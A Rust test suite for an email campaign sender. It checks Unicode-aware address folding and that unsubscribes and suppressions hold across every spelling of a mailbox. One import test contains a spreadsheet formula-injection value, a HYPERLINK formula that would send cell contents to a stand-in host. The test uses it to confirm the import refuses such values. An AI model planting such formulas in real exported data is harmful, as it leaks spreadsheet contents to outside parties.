//! One mailbox, one spelling (`src/fold.rs`): the SQL `email_fold()` and the Rust `fold` agree
//! on the hard characters, and a listing made in one spelling stops the mailbox in every other
//! on each path that lists (import, `suppress`, events, one-click) and each that checks (the
//! claim, the re-check before a send).

use std::time::Duration;

use campaign_sender::events::{Event, What};
use campaign_sender::fold::{fold, listings};
use campaign_sender::store::{events, suppressions};
use rand::{Rng, SeedableRng};
use sqlx::PgPool;

use crate::helpers::*;

/// The characters where a fold goes wrong: case pairs that are not one to one (`ß`/`ẞ`,
/// `İ`/`ı`, final sigma, the Kelvin and Ångström signs, the ohm sign), titlecase digraphs,
/// combining marks that compose (or reorder), ligatures and compatibility forms a fold must
/// *not* join (`ﬁ`, full-width, circled), scripts with late case pairs (Cherokee, Georgian
/// Mtavruli), and the dot a domain may end with.
const HARD: &[char] = &[
    'a', 'A', 'i', 'I', 'k', 'K', 's', 'S', 'ß', 'ẞ', 'σ', 'ς', 'Σ', 'İ', 'ı', '\u{212a}',
    '\u{212b}', '\u{2126}', 'Å', 'å', 'ǅ', 'ǆ', 'Ǆ', '\u{301}', '\u{308}', '\u{327}', '\u{323}',
    '\u{30a}', 'e', 'é', 'Ä', 'ﬁ', 'Ａ', 'ａ', 'Ⓐ', 'ⓐ', 'Ꭰ', 'ꭰ', 'Ა', 'ა', 'Ⅻ', 'ⅻ', 'Ω', 'ω',
    'ῼ', 'ῳ', 'ﬀ', '.', '@', '+', '-', 'Ǉ', 'ǈ', 'Ϊ', 'ΐ',
];

/// The SQL fold of each of `addresses`, in order.
async fn sql_fold(pool: &PgPool, addresses: &[String]) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT email_fold(a) FROM unnest($1::text[]) WITH ORDINALITY AS x(a, n) ORDER BY n",
    )
    .bind(addresses)
    .fetch_all(pool)
    .await
    .unwrap()
}

/// Both folds of every pair of hard characters, and of 20 000 seeded strings of up to six of
/// them, before an `@` and a domain in capitals with a trailing dot: equal, one by one.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn the_sql_fold_and_the_rust_fold_agree_on_the_hard_characters(pool: PgPool) {
    let mut all = Vec::new();
    for a in HARD {
        for b in HARD {
            all.push(format!("{a}{b}@BÜCHER.Example."));
        }
    }
    let mut rng = rand::rngs::StdRng::seed_from_u64(8058);
    for _ in 0..20_000 {
        let n = rng.random_range(1..=6);
        let local: String = (0..n)
            .map(|_| HARD[rng.random_range(0..HARD.len())])
            .collect();
        all.push(format!("{local}@{local}.de."));
    }
    let sql = sql_fold(&pool, &all).await;
    let differ: Vec<(&String, String, &String)> = all
        .iter()
        .zip(&sql)
        .map(|(a, s)| (a, fold(a), s))
        .filter(|(_, rust, s)| rust != *s)
        .take(5)
        .collect();
    assert!(differ.is_empty(), "(address, rust, sql): {differ:?}");
}

/// Every cased character of the BMP, alone before `@x`: the two folds agree, but for a case
/// pair newer than the database's Unicode tables (Rust's are newer than ICU 72's, PostgreSQL
/// 15's), which the database leaves exactly as it is — a few, never a character it folds
/// differently.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn the_sql_fold_and_the_rust_fold_agree_on_every_cased_character(pool: PgPool) {
    let all: Vec<String> = (0u32..=0xffff)
        .filter_map(char::from_u32)
        .filter(|c| c.is_lowercase() || c.is_uppercase() || c.to_lowercase().next() != Some(*c))
        .map(|c| format!("{c}@x"))
        .collect();
    let sql = sql_fold(&pool, &all).await;
    let mut newer = Vec::new();
    for (a, s) in all.iter().zip(&sql) {
        if fold(a) == *s {
            continue;
        }
        assert_eq!(
            s,
            a,
            "{a:?}: rust {:?}, sql {s:?}: folded differently",
            fold(a)
        );
        newer.push(a.clone());
    }
    assert!(
        newer.len() <= 16,
        "{} characters the database does not case: {newer:?}",
        newer.len()
    );
}

/// The spellings of one mailbox that another system may write: each pair is (listed, row).
/// Each pair is its own mailbox, so no pair's listing covers another's row.
const SPELLINGS: &[(&str, &str)] = &[
    ("a\u{308}nn@example.com", "änn@example.com"),
    ("bärbel@example.com", "BA\u{308}RBEL@EXAMPLE.COM"),
    ("cora@xn--bcher-kva.de", "cora@bücher.de"),
    ("dirk@BÜCHER.de", "dirk@xn--bcher-kva.de"),
    ("emil@example.com.", "emil@example.com"),
    ("fritz@example.com", "FRITZ@Example.Com."),
    ("\u{212a}im@example.com", "kim@example.com"),
];

/// The work table's rows, one per spelling's row side, members 1…n, and a member n+1 nobody
/// listed.
async fn seed_spellings(pool: &PgPool, campaign: &str) {
    for (i, (_, row)) in SPELLINGS.iter().enumerate() {
        sqlx::query(
            "INSERT INTO campaign_targets (campaign_id, member_id, email) VALUES ($1, $2, $3)",
        )
        .bind(campaign)
        .bind(i as i64 + 1)
        .bind(row)
        .execute(pool)
        .await
        .unwrap();
    }
    sqlx::query("INSERT INTO campaign_targets (campaign_id, member_id, email) VALUES ($1, $2, 'zoe@example.com')")
        .bind(campaign)
        .bind(SPELLINGS.len() as i64 + 1)
        .execute(pool)
        .await
        .unwrap();
}

/// A claim of `campaign` takes only the member nobody listed.
async fn only_the_unlisted_is_claimed(pool: &PgPool, campaign: &str, path: &str) {
    let store = campaign_sender::store::Store::new(pool.clone(), campaign);
    let batch = store.claim(50, Duration::from_secs(30)).await.unwrap();
    let claimed: Vec<i64> = batch.rows.iter().map(|r| r.member_id).collect();
    assert_eq!(
        claimed,
        [SPELLINGS.len() as i64 + 1],
        "{path}: a listed mailbox was claimed in another spelling"
    );
    assert_eq!(batch.suppressed as usize, SPELLINGS.len(), "{path}");
}

/// Through `suppress` (the CLI, a file): each listed spelling stops its row's spelling.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn a_suppress_in_one_spelling_stops_every_other(pool: PgPool) {
    let path = temp_path("spellings.csv");
    let lines: Vec<String> = SPELLINGS
        .iter()
        .map(|(l, _)| format!("{l},hard_bounce"))
        .collect();
    std::fs::write(&path, lines.join("\n")).unwrap();
    let child = spawn_sender(
        &["suppress", path.to_str().unwrap()],
        &operator_url(&pool).await,
        &[],
    );
    let (code, out, err) = finish(child, Duration::from_secs(60)).await;
    let _ = std::fs::remove_file(&path);
    assert_eq!(code, 0, "{out}\n{err}");
    seed_spellings(&pool, CAMPAIGN).await;
    only_the_unlisted_is_claimed(&pool, CAMPAIGN, "suppress").await;
}

/// Through a vendor's event (one stored complaint per spelling).
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn an_event_in_one_spelling_stops_every_other(pool: PgPool) {
    let complaints: Vec<Event> = SPELLINGS
        .iter()
        .enumerate()
        .map(|(i, (listed, _))| Event {
            id: format!("ev-{i}"),
            what: What::Complaint,
            campaign_id: None,
            member_id: None,
            message_id: None,
            email: Some(listed.to_string()),
            occurred_at: None,
            refusal: None,
        })
        .collect();
    let rules = campaign_sender::config::BrakeConfig::default().rules();
    events::record(&pool, "sendgrid", &complaints, None, &rules)
        .await
        .unwrap();
    seed_spellings(&pool, CAMPAIGN).await;
    only_the_unlisted_is_claimed(&pool, CAMPAIGN, "events").await;
}

/// Through a one-click on an earlier campaign's mail: the row's spelling there lists the
/// mailbox, and the next campaign's other spelling is stopped.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn a_one_click_in_one_spelling_stops_every_other_in_the_next_campaign(pool: PgPool) {
    for (i, (listed, _)) in SPELLINGS.iter().enumerate() {
        sqlx::query("INSERT INTO campaign_targets (campaign_id, member_id, email) VALUES ('earlier', $1, $2)")
            .bind(i as i64 + 1)
            .bind(listed)
            .execute(&pool)
            .await
            .unwrap();
        let done = campaign_sender::store::one_click::unsubscribe(&pool, "earlier", i as i64 + 1)
            .await
            .unwrap();
        assert_eq!(done, campaign_sender::store::one_click::Unsubscribed::Done);
    }
    seed_spellings(&pool, CAMPAIGN).await;
    only_the_unlisted_is_claimed(&pool, CAMPAIGN, "one-click").await;
}

/// The re-check before a send: rows already claimed in one spelling are stopped by a listing
/// made in another after the claim.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn the_recheck_stops_a_claimed_row_listed_since_in_another_spelling(pool: PgPool) {
    seed_spellings(&pool, CAMPAIGN).await;
    let store = campaign_sender::store::Store::new(pool.clone(), CAMPAIGN);
    let batch = store.claim(50, Duration::from_secs(30)).await.unwrap();
    assert_eq!(batch.rows.len(), SPELLINGS.len() + 1);
    let mut tx = pool.begin().await.unwrap();
    suppressions::create_staging(&mut tx).await.unwrap();
    for (i, (listed, _)) in SPELLINGS.iter().enumerate() {
        for form in listings(listed) {
            sqlx::query("INSERT INTO suppress_rows VALUES ($1, $2, 'complaint')")
                .bind(i as i64)
                .bind(form)
                .execute(&mut *tx)
                .await
                .unwrap();
        }
    }
    suppressions::add(&mut tx).await.unwrap();
    tx.commit().await.unwrap();
    let asked: Vec<(i64, uuid::Uuid)> = batch
        .rows
        .iter()
        .map(|r| (r.member_id, batch.claim_id))
        .collect();
    let stopped = store
        .recheck(&asked, Duration::from_secs(86_400))
        .await
        .unwrap();
    let suppressed: Vec<i64> = stopped
        .iter()
        .filter(|(_, why)| *why == campaign_sender::store::Recheck::Suppressed)
        .map(|(m, _)| *m)
        .collect();
    let expected: Vec<i64> = (1..=SPELLINGS.len() as i64).collect();
    assert_eq!(
        suppressed, expected,
        "every listed spelling is stopped, the unlisted sent"
    );
}

/// An import of the work table refuses what RFC 5322 does not allow unquoted in a local part:
/// a spreadsheet formula never becomes a row (nor, later, an exported cell).
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn an_import_refuses_a_local_part_rfc_5322_does_not_allow_unquoted(pool: PgPool) {
    let path = temp_path("formula.csv");
    std::fs::write(
        &path,
        "member_id,email\n1,ann@example.com\n2,\"=HYPERLINK(\"\"http://e.x/?\"\"&A3)&\"\"@x.y\"\n",
    )
    .unwrap();
    let child = spawn_sender(
        &["import", "--campaign", CAMPAIGN, path.to_str().unwrap()],
        &operator_url(&pool).await,
        &[],
    );
    let (code, out, err) = finish(child, Duration::from_secs(60)).await;
    let _ = std::fs::remove_file(&path);
    assert_eq!(
        code,
        campaign_sender::exit::Exit::DataError as i32,
        "{out}\n{err}"
    );
    assert!(err.contains("line 3"), "{err}");
    assert!(!err.contains("HYPERLINK"), "the value is not shown: {err}");
}

/// A listing only SQL wrote (the workers' finish for a vendor's inactive recipient, another
/// system) lacks the other form of its internationalised domain: `complete_forms` adds it with
/// the listing's reason, source and time, reading the list in batches, and a second pass adds
/// nothing.
#[sqlx::test(migrator = "campaign_sender::store::MIGRATOR")]
async fn a_listing_sql_wrote_alone_gets_its_other_form(pool: PgPool) {
    sqlx::query(
        "INSERT INTO suppressions (email, reason, source, created_at)
         SELECT 'm' || g || '@bücher.de', 'inactive', 'finish', now() - interval '3 days'
           FROM generate_series(1, 2500) g
         UNION ALL SELECT 'x@xn--mller-kva.de', 'complaint', 'ses', now()
         UNION ALL SELECT 'plain@example.com', 'complaint', 'ses', now()",
    )
    .execute(&pool)
    .await
    .unwrap();
    assert_eq!(suppressions::complete_forms(&pool).await.unwrap(), 2501);
    let forms: Vec<(String, String, Option<String>)> = sqlx::query_as(
        "SELECT email, reason, source FROM suppressions
          WHERE email IN ('m7@xn--bcher-kva.de', 'x@müller.de') ORDER BY email",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(
        forms,
        [
            (
                "m7@xn--bcher-kva.de".into(),
                "inactive".into(),
                Some("finish".into())
            ),
            ("x@müller.de".into(), "complaint".into(), Some("ses".into())),
        ]
    );
    assert_eq!(suppressions::complete_forms(&pool).await.unwrap(), 0);
    seed_spellings(&pool, CAMPAIGN).await;
    sqlx::query("INSERT INTO campaign_targets (campaign_id, member_id, email) VALUES ($1, 99, 'M7@XN--BCHER-KVA.DE')")
        .bind(CAMPAIGN)
        .execute(&pool)
        .await
        .unwrap();
    let store = campaign_sender::store::Store::new(pool.clone(), CAMPAIGN);
    let batch = store.claim(50, Duration::from_secs(30)).await.unwrap();
    assert!(
        batch.rows.iter().all(|r| r.member_id != 99),
        "the A-label row is stopped"
    );
}
